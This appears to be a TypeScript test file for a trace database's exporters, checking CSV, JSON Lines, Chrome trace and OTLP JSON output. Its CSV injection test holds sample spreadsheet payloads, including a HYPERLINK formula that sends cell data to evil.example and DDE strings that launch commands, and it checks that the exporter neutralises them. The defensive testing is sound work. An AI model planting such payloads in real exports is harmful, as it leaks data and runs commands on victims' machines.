// Exports stream what the engine's queries return: CSV parses back to the same rows, JSON Lines
// has one line per counted row, Chrome trace events nest like the trace, and OTLP JSON follows
// the proto's JSON mapping well enough to come back through our own receiver as the same tree.
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Engine } from '../../../db/engine/engine.ts';
import type { TraceRow } from '../../../db/api/types.ts';
import { CSV_COLUMNS } from '../../../db/export/csv.ts';
import { exportTraces } from '../../../db/export/stream-export.ts';
import type { ExportRequest } from '../../../db/export/export-request.ts';
import { OtlpStore } from '../../../db/otlp/otlp-store.ts';
import { startOtlpReceiver, type RunningOtlpReceiver } from '../../../main/serve/otlp-receiver.ts';
import { createTracer } from '../../../tracer/index.ts';
import { createTraceDb, sampleRows, tempDir } from '../../fixtures/trace-db.ts';
import { bulkTraceDb, newEngine, openLive, until } from '../engine/engine-harness.ts';
import { exportSampleTrace } from '../otlp/otel-sdk.ts';
import { sampleApp } from '../../tracer/sample-app.ts';
import { parseCsv } from './csv-parse.ts';

async function exportText(engine: Engine, req: ExportRequest): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await exportTraces(engine, req, out);
  out.end();
  return Buffer.concat(chunks).toString('utf8');
}

async function allRows(engine: Engine, db: string): Promise<TraceRow[]> {
  const page = await engine.invoke('traces', { db, range: { preset: 'all' }, order: 'oldest', limit: 10_000 });
  return Promise.all(page.rows.map((r) => engine.invoke('row', { db, id: r.id })));
}

let engine: Engine;
beforeAll(() => {
  engine = newEngine({}, { lifetime: 'file' });
});

describe('CSV and JSON Lines', () => {
  it('CSV parses back to the same rows: quotes, commas, line breaks, unicode, long values, NULLs', async () => {
    const tricky = [
      'say "hi", then leave',
      'line one\nline two\r\nline three',
      'ünïcödé ✓ 漢字 🚀',
      '  padded  ',
      '',
      'x'.repeat(5000),
      '=1+2',
    ];
    const rows = sampleRows(tricky.length).map((r, i) => ({
      ...r,
      data_value: tricky[i],
      exception: i === 1 ? 'Traceback:\n  "quoted", here' : null,
      memory_delta: i === 2 ? -512 : null,
    }));
    const path = createTraceDb({
      rows: [...rows, { process: 'app.bare', data: null, data_value: null, timestamp: 1795183387250 }],
    });
    const db = await openLive(engine, path);
    const text = await exportText(engine, { db, format: 'csv' });
    const [header, ...records] = parseCsv(text);
    expect(header).toEqual([...CSV_COLUMNS]);
    const expected = await allRows(engine, db);
    expect(records).toHaveLength(expected.length);
    // Text a spreadsheet would run as a formula comes back with a leading ' (numbers as they are).
    const cell = (v: string | number | null) =>
      v === null ? '' : typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${v}` : String(v);
    expect(records).toEqual(
      expected.map((r) =>
        [
          r.id,
          r.timestamp,
          r.process,
          r.group,
          r.data,
          r.dataType,
          r.dataValue,
          r.status,
          r.exception,
          r.traceId,
          r.spanId,
          r.parentSpanId,
          r.durationMs,
          r.memoryDelta,
        ].map(cell),
      ),
    );
    expect(records[5][6]).toHaveLength(5000); // whole, not the list's 2,000 characters
    expect(records[6][6]).toBe("'=1+2");
    expect(records[2][13]).toBe('-512'); // a negative number stays a number
  });

  it('JSON Lines has one line per row the filter counts, across many pages', async () => {
    const path = bulkTraceDb(23_456);
    const db = await openLive(engine, path);
    for (const filter of [
      {},
      { errorsOnly: true },
      { range: { from: Date.UTC(2026, 10, 20) + 1000, to: Date.UTC(2026, 10, 20) + 12_000 } },
      { search: 'hot', groups: ['hot'] },
    ]) {
      const text = await exportText(engine, { db, format: 'jsonl', ...filter });
      const lines = text.split('\n');
      expect(lines.pop()).toBe('');
      const { count } = await engine.invoke('traceCount', { db, range: { preset: 'all' }, ...filter });
      expect(lines).toHaveLength(count);
      const parsed = lines.map((l) => JSON.parse(l) as { id: number; ts: number });
      expect(new Set(parsed.map((p) => p.id)).size).toBe(count);
      for (let i = 1; i < parsed.length; i++) expect(parsed[i].ts).toBeGreaterThanOrEqual(parsed[i - 1].ts);
    }
  });
});

describe('CSV injection', () => {
  it('neutralises every cell a spreadsheet would run as a formula, whatever column holds it', async () => {
    // What an attacker whose input gets traced would plant: formulas that call out or run commands.
    const attacks = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ];
    const rows = attacks.map((a, i) => ({
      ...sampleRows(1)[0],
      process: `app.${i}`,
      data: a,
      data_value: a,
      exception: a,
      status: 'ERROR',
    }));
    const path = createTraceDb({
      rows: [...rows, { ...sampleRows(1)[0], process: '=cmd|calc', data: 'safe', data_value: '-5' }],
    });
    const db = await openLive(engine, path);
    const [, ...records] = parseCsv(await exportText(engine, { db, format: 'csv' }));
    const text = records.flat().filter((c) => c !== '');
    for (const c of text) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    const byProcess = new Map(records.map((r) => [r[2], r]));
    attacks.forEach((a, i) =>
      expect(byProcess.get(`app.${i}`)!.slice(4, 9)).toEqual([`'${a}`, expect.any(String), `'${a}`, 'ERROR', `'${a}`]),
    );
    expect(byProcess.get("'=cmd|calc")![6]).toBe("'-5"); // a text value, even a numeric-looking one, is text
  });
});

describe('Chrome trace events', () => {
  it('has one complete event per call with its duration, nested on each track as in the trace', async () => {
    const path = join(tempDir(), 'app.db');
    const tracer = createTracer({ path, flushMs: 10 });
    const app = sampleApp(tracer);
    await app.placeOrder(1, 50);
    await app.placeOrder(2, 500).catch(() => {});
    // Two overlapping calls of one trace: siblings that must not share a track.
    const both = tracer.wrap(
      async function both() {
        await Promise.all([app.fetchUser(3), app.fetchUser(4)]);
      },
      { name: 'users.batch.both' },
    );
    await both();
    tracer.close();
    const db = await openLive(engine, path);

    const first = (await engine.invoke('traces', { db, range: { preset: 'all' }, order: 'oldest', limit: 1 })).rows[0];
    const tree = await engine.invoke('traceTree', { db, traceId: first.traceId! });
    const doc = JSON.parse(await exportText(engine, { db, format: 'chrome', traceId: first.traceId! }));
    const events = (
      doc.traceEvents as {
        ph: string;
        name: string;
        ts: number;
        dur: number;
        pid: number;
        tid: number;
        args: { spanId: string; parentSpanId: string | null; status: string; values: Record<string, string> };
      }[]
    ).filter((e) => e.ph === 'X');
    expect(events).toHaveLength(tree.nodes.length);
    for (const node of tree.nodes) {
      const e = events.find((x) => x.args.spanId === node.spanId)!;
      expect(e.name).toBe(node.process);
      expect(e.dur).toBeCloseTo(node.durationMs! * 1000, 0);
      expect(e.args.status).toBe(node.status);
      const parent = events.find((x) => x.args.spanId === node.parentSpanId);
      // A child on its parent's track lies inside it.
      if (parent && parent.pid === e.pid && parent.tid === e.tid) {
        expect(e.ts).toBeGreaterThanOrEqual(parent.ts);
        expect(e.ts + e.dur).toBeLessThanOrEqual(parent.ts + parent.dur + 0.001);
      }
    }
    expect(events[0].args.values).toMatchObject({ userId: '1', amount: '50' });
    const meta = (doc.traceEvents as { ph: string; name: string; args: { name: string } }[])
      .filter((e) => e.ph === 'M' && e.name === 'process_name')
      .map((e) => e.args.name);
    expect(meta.sort()).toEqual(['orders', 'payments', 'users']);

    // The whole range: every track holds properly nested events (what Perfetto requires).
    const all = JSON.parse(await exportText(engine, { db, format: 'chrome' }));
    const xs = (
      all.traceEvents as { ph: string; ts: number; dur: number; pid: number; tid: number; name: string }[]
    ).filter((e) => e.ph === 'X');
    expect(xs).toHaveLength(4 + 4 + 3);
    const tracks = Map.groupBy(xs, (e) => `${e.pid}/${e.tid}`);
    for (const list of tracks.values()) {
      for (const a of list)
        for (const b of list) {
          if (a === b) continue;
          const disjoint = a.ts + a.dur <= b.ts || b.ts + b.dur <= a.ts;
          const nested =
            (a.ts <= b.ts && b.ts + b.dur <= a.ts + a.dur) || (b.ts <= a.ts && a.ts + a.dur <= b.ts + b.dur);
          expect(disjoint || nested, `${a.name} and ${b.name} overlap on one track`).toBe(true);
        }
    }
    const fetches = xs.filter((e) => e.name === 'users.repo.fetchUser').slice(-2);
    expect(fetches[0].tid).not.toBe(fetches[1].tid);
  });
});

describe('OTLP JSON', () => {
  let store: OtlpStore;
  let receiver: RunningOtlpReceiver;
  let store2: OtlpStore;
  let receiver2: RunningOtlpReceiver;
  beforeAll(async () => {
    store = new OtlpStore(join(tempDir(), 'in.db'));
    receiver = await startOtlpReceiver(store);
    store2 = new OtlpStore(join(tempDir(), 'again.db'));
    receiver2 = await startOtlpReceiver(store2);
  });
  afterAll(async () => {
    await Promise.all([receiver.close(), receiver2.close()]);
    store.close();
    store2.close();
  });

  it('follows the JSON mapping and re-imports through the receiver as the same tree', async () => {
    const sent = await exportSampleTrace(receiver.url, 'json');
    const db = await openLive(engine, store.path);
    const original = await until(
      () => engine.invoke('traceTree', { db, traceId: sent.traceId }).catch(() => null),
      (t) => t?.nodes.length === 4,
      'the received trace',
    );

    const text = await exportText(engine, { db, format: 'otlp', traceId: sent.traceId });
    const doc = JSON.parse(text);
    const spans = doc.resourceSpans.flatMap((rs: { scopeSpans: { spans: unknown[] }[] }) =>
      rs.scopeSpans.flatMap((s) => s.spans),
    );
    expect(doc.resourceSpans[0].resource.attributes).toEqual([
      { key: 'service.name', value: { stringValue: 'checkout' } },
    ]);
    expect(spans).toHaveLength(4);
    for (const s of spans) {
      expect(s.traceId).toBe(sent.traceId);
      expect(s.spanId).toMatch(/^[0-9a-f]{16}$/);
      expect(s.startTimeUnixNano).toMatch(/^\d+$/);
      expect(s.endTimeUnixNano).toMatch(/^\d+$/);
      expect(Number.isInteger(s.kind)).toBe(true);
    }
    const root = spans.find((s: { name: string }) => s.name === 'POST /orders');
    expect(root.kind).toBe(2); // SPAN_KIND_SERVER
    expect(root.attributes).toContainEqual({ key: 'http.response.status_code', value: { intValue: '500' } });
    expect(root.attributes).toContainEqual({ key: 'retried', value: { boolValue: false } });
    expect(root.attributes).toContainEqual({ key: 'cart.ratio', value: { doubleValue: 0.25 } });
    expect(root.attributes).toContainEqual({
      key: 'cart.skus',
      value: { arrayValue: { values: [{ stringValue: 'A-1' }, { stringValue: 'B-7' }] } },
    });
    const charge = spans.find((s: { name: string }) => s.name === 'payments.gateway.charge');
    expect(charge.status).toEqual({ code: 2, message: 'card declined' });
    expect(charge.events[0].name).toBe('exception');

    const res = await fetch(receiver2.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: text,
    });
    expect(res.status).toBe(200);
    const db2 = await openLive(engine, store2.path);
    const again = await until(
      () => engine.invoke('traceTree', { db: db2, traceId: sent.traceId }).catch(() => null),
      (t) => t?.nodes.length === 4,
      'the re-imported trace',
    );
    const shape = (t: typeof original) =>
      t!.nodes.map((n) => ({
        depth: n.depth,
        process: n.process,
        status: n.status,
        spanId: n.spanId,
        parentSpanId: n.parentSpanId,
        durationMs: n.durationMs,
        startTs: n.startTs,
        rows: n.rows.map((r) => [r.data, r.dataType, r.dataValue, r.status, r.exception, r.group, r.timestamp]),
      }));
    expect(shape(again)).toEqual(shape(original));
  });
});
